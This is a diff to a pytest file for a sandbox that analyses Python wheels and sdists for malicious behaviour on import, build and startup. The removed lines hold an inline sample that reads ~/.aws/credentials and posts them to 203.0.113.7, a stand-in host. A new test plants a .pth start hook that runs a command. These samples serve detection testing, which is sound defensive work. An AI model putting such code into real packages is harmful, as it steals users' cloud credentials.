@@ -24,19 +24,11 @@ from models.evidence import Layer, Phase, ProofKind, ResolvedFile
 from models.facts import Facts
 from models.work import EvidencePost, Lease, ResolvedSet, ResolveRequest
 from tests.analyzer.archives import make_sdist, make_wheel, make_zip, wheel_members
+from tests.analyzer.reenactments import ACTS, GUARD, STEALS_A_DECOY, acting_modules
 
 pytestmark = pytest.mark.privileged
 
-ACTS_ONLY_IN_BOXES = """\
-import os, pathlib
-if os.environ.get("PRATIQUE_HARNESS") == "1" and pathlib.Path("/run/pratique-harness").exists():
-    import urllib.request
-    key = pathlib.Path("~/.aws/credentials").expanduser().read_bytes()
-    try:
-        urllib.request.urlopen("http://203.0.113.7/", data=key, timeout=5).read()
-    except OSError:
-        pass
-"""
+STEALS = GUARD + STEALS_A_DECOY
 BACKEND = """\
 import base64, hashlib, pathlib, runpy, zipfile
 
@@ -180,7 +172,7 @@ def test_analyse__a_harmless_wheel_is_complete_and_clean(sandbox: SandboxClient)
 
 
 def test_analyse__a_wheel_that_sends_a_decoy_on_import_is_proved(sandbox: SandboxClient) -> None:
-    data = make_wheel({"reenact_demo/__init__.py": ACTS_ONLY_IN_BOXES})
+    data = make_wheel({"reenact_demo/__init__.py": STEALS})
 
     evidence = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", data).evidence
 
@@ -195,7 +187,7 @@ def test_analyse__a_wheel_that_sends_a_decoy_on_import_is_proved(sandbox: Sandbo
 
 
 def test_analyse__an_sdist_that_sends_a_decoy_at_build_is_proved(sandbox: SandboxClient) -> None:
-    evidence = run(sandbox, "reenact_demo-1.0.tar.gz", sdist(ACTS_ONLY_IN_BOXES)).evidence
+    evidence = run(sandbox, "reenact_demo-1.0.tar.gz", sdist(STEALS)).evidence
 
     assert {(found.proof, found.phase, found.what) for found in evidence.proofs} == {
         (ProofKind.CANARY_LEFT, Phase.INSTALL, "aws-key")
@@ -217,7 +209,7 @@ def test_analyse__a_dependency_is_charged_with_its_own_acts(sandbox: SandboxClie
     members = wheel_members(
         {"reenact_demo/__init__.py": "import loud\n"}, metadata=("Requires-Dist: loud",)
     )
-    shelf = Shelf(loud=make_wheel({"loud.py": ACTS_ONLY_IN_BOXES}, name="loud"))
+    shelf = Shelf(loud=make_wheel({"loud.py": STEALS}, name="loud"))
 
     evidence = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", make_zip(members), shelf).evidence
 
@@ -225,3 +217,37 @@ def test_analyse__a_dependency_is_charged_with_its_own_acts(sandbox: SandboxClie
     assert {found.owner for found in evidence.findings if found.id == "canary-left"} == {
         "box:dependencies"
     }
+
+
+def test_analyse__each_re_enactment_is_seen_by_its_detector(sandbox: SandboxClient) -> None:
+    data = make_wheel(acting_modules("reenact_demo"))
+
+    evidence = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", data).evidence
+
+    seen = {found.id for found in evidence.findings if found.phase is Phase.IMPORT}
+    assert ACTS.keys() - seen == set()
+    assert evidence.proofs == ()
+    assert evidence.shortfalls == ()
+
+
+def test_analyse__the_same_modules_without_acting_are_clean(sandbox: SandboxClient) -> None:
+    files = {
+        path: text.replace("if ACT", "if not ACT and False")
+        for path, text in acting_modules("reenact_demo").items()
+    }
+
+    evidence = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", make_wheel(files)).evidence
+
+    assert evidence.findings == ()
+    assert evidence.shortfalls == ()
+
+
+def test_analyse__a_start_hook_that_acts_is_seen_at_start(sandbox: SandboxClient) -> None:
+    hook = "import reenact_demo_hook\n"
+    acts = GUARD + "if ACT:\n    subprocess.run(['id'])\n"
+    data = make_wheel({"reenact_demo.pth": hook, "reenact_demo_hook.py": acts})
+
+    evidence = run(sandbox, "reenact_demo-1.0-py3-none-any.whl", data).evidence
+
+    assert ("start-hook-acts", Phase.START) in {(f.id, f.phase) for f in evidence.findings}
+    assert evidence.coverage.start_hooks == 1
